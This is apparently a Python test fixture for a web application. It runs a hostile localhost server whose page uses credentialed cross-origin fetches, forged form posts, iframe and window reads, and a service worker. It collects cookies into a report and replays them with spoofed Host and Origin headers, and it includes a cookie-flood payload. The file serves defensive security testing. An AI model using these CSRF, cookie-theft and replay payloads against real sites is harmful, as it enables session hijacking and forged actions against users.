"""A hostile server on another port of this machine: it takes what browsers send it, tries all
that a page may try, and uses what it got from a process of its own."""

import json
import socket
import subprocess
import sys
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Final

ODD_COOKIES: Final = (
    'quote="',
    'half="a;b',
    "a b=c d",
    "[x]=1",
    "a@b=1, 2",
    "\u00e9\u00e8=\u00ff",
    "=nameless",
    "valueless",
    "expires=never",
)
"""What Python's SimpleCookie stops at, or takes for something else."""

FLOOD_COUNT: Final = 150
FLOOD: Final = """(count) => {
  for (let number = 0; number < count; number++) {
    document.cookie = `flood${number}=${"x".repeat(4000)}; path=/`;
    document.cookie = `wide${number}=${"x".repeat(4000)}; path=/; domain=localhost`;
  }
}"""
"""Together more than any server takes as headers."""

ATTACK: Final = """
const notes = [];
const note = async (what, value) => {
  try {
    notes.push(`${what}: ${await value()}`);
  } catch (error) {
    notes.push(`${what}: ${error}`);
  }
};
const within = () => AbortSignal.timeout(1500);
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const add = (name, values) => document.body.appendChild(
  Object.assign(document.createElement(name), values));

async function attack(target, number) {
  const credentials = "include";
  for (const mode of ["cors", "no-cors"]) {
    for (const path of ["/", "/me", "/events", "/api/1/whoami", "/static/swarmfeed.js"]) {
      await note(`read ${mode} ${target}${path}`, async () =>
        (await fetch(target + path, { mode, credentials, signal: within() })).text());
    }
    await note(`post ${mode} ${target}`, async () => (await fetch(target + "/posts", {
      method: "POST", mode, credentials, signal: within(),
      body: new URLSearchParams({ text: "forged", form_key: "guess" }) })).text());
  }
  await note(`json ${target}`, async () => (await fetch(target + "/api/1/post", {
    method: "POST", credentials, signal: within(),
    headers: { "Content-Type": "application/json" },
    body: '{"text": "forged"}' })).text());
  const inner = add("iframe", { src: target + "/", name: `inner${number}` });
  const posted = add("iframe", { name: `posted${number}` });
  const form = add("form", { action: target + "/posts", method: "post", target: posted.name });
  form.innerHTML = '<input name="text" value="forged">';
  form.submit();
  add("img", { src: target + "/static/icon.svg" });
  add("script", { src: target + "/static/swarmfeed.js" });
  const stream = new EventSource(target + "/events", { withCredentials: true });
  stream.onmessage = (event) => notes.push(`stream ${event.data}`);
  stream.addEventListener("new", (event) => notes.push(`stream ${event.data}`));
  const opened = window.open(target + "/");
  await pause(1000);
  await note(`framed ${target}`, () => inner.contentDocument.body.innerText);
  await note(`framed path ${target}`, () => inner.contentWindow.location.href);
  await note(`opened ${target}`, () => opened.document.body.innerText);
  await note(`opened path ${target}`, () => opened.location.href);
  await note(`opened opener ${target}`, () => opened.closed);
  stream.close();
  opened?.close();
}

await note("worker", async () => (await navigator.serviceWorker.register("/worker.js")).scope);
await Promise.all(TARGETS.map(attack));
notes.push(`cookies ${document.cookie}`, `referrer ${document.referrer}`);
await fetch("/report", { method: "POST", body: JSON.stringify(notes) });
document.title = "done";
"""

WORKER: Final = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => event.waitUntil(
  fetch("/report", { method: "POST", body: JSON.stringify([`saw ${event.request.url}`]) })));
"""

REPLAY: Final = """
import http.client, json, sys
port, tries = json.load(sys.stdin)
told = []
for cookie, host in tries:
    for method, path in [("GET", "/"), ("GET", "/me"), ("GET", "/updates"), ("GET", "/events"),
                         ("GET", "/api/1/whoami"), ("POST", "/posts"), ("POST", "/logout")]:
        headers = {"Host": host, "Cookie": cookie, "Sec-Fetch-Site": "same-origin",
                   "Origin": "http://" + host, "Referer": "http://" + host + "/",
                   "Content-Type": "application/x-www-form-urlencoded"}
        to = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
        try:
            body = "text=forged" if method == "POST" else None
            raw = {key: text.encode("latin-1", "replace") for key, text in headers.items()}
            to.request(method, path, body, raw)
            answer = to.getresponse()
            text = answer.read(2000).decode("utf-8", "replace")
            told.append([method, path, host, answer.status, text])
        except (OSError, http.client.HTTPException) as error:
            told.append([method, path, host, 0, repr(error)])
        finally:
            to.close()
json.dump(told, sys.stdout)
"""


@dataclass
class Received:
    """One request to the neighbour."""

    path: str
    headers: dict[str, str]


@dataclass
class Neighbour:
    """Listens on 127.0.0.1 and ``::1``, on one port that is not the node's."""

    targets: list[str] = field(default_factory=list)
    """Origins that its page attacks."""
    sets: list[str] = field(default_factory=list)
    """Cookies it sets, as a header says it."""
    received: list[Received] = field(default_factory=list)
    reports: list[str] = field(default_factory=list)
    port: int = 0
    _servers: list[ThreadingHTTPServer] = field(default_factory=list)

    def start(self) -> "Neighbour":
        for host in ("127.0.0.1", "::1"):
            server = _Server(host, self.port, self)
            self.port = server.server_port
            self._servers.append(server)
            threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        return self

    def stop(self) -> None:
        for server in self._servers:
            server.shutdown()
            server.server_close()

    def replay(self, node_port: int, hosts: list[str], user: int | None) -> list[list[Any]]:
        """Send what was received to the node, from another process.

        Args:
            hosts: Names to try beside those the requests came with.
            user: Whose process it is; None: ours.
        """
        names = {each.headers.get("Host", "").rpartition(":")[0] for each in self.received}
        every = {*hosts, *(f"{name}:{node_port}" for name in names)}
        cookies = {each.headers.get("Cookie", "") for each in self.received}
        small = {cookie for cookie in cookies if len(cookie) < 10_000} | {""}
        tries = sorted((cookie, host) for cookie in small for host in every)
        python = sys.executable if user is None else "/usr/bin/python3"
        done = subprocess.run(
            [python, "-c", REPLAY],
            input=json.dumps([node_port, tries]),
            capture_output=True,
            text=True,
            timeout=100,
            check=True,
            cwd="/",
            user=user,
        )
        told: list[list[Any]] = json.loads(done.stdout)
        return told


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, host: str, port: int, neighbour: Neighbour) -> None:
        self.address_family = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.neighbour = neighbour
        super().__init__((host, port), _Handler)


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        neighbour = self._note()
        if self.path.startswith("/worker.js"):
            self._answer(WORKER, "text/javascript")
        elif self.path.startswith("/attack.js"):
            self._answer(f"const TARGETS = {json.dumps(neighbour.targets)};{ATTACK}",
                         "text/javascript")  # fmt: skip
        else:
            script = (
                '<script type="module" src="/attack.js"></script>' if neighbour.targets else ""
            )
            self._answer(f"<!doctype html><title>neighbour</title><body>{script}", "text/html")

    def do_POST(self) -> None:
        neighbour = self._note()
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        neighbour.reports.extend(json.loads(body))
        self._answer("", "text/plain")

    def _note(self) -> Neighbour:
        self.server.neighbour.received.append(Received(self.path, dict(self.headers.items())))
        return self.server.neighbour

    def _answer(self, text: str, kind: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", f"{kind}; charset=utf-8")
        for cookie in self.server.neighbour.sets if kind == "text/html" else ():
            self.send_header("Set-Cookie", cookie.encode("utf-8").decode("latin-1"))
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, format: str, *args: object) -> None:
        """A test has nothing to read of each request."""
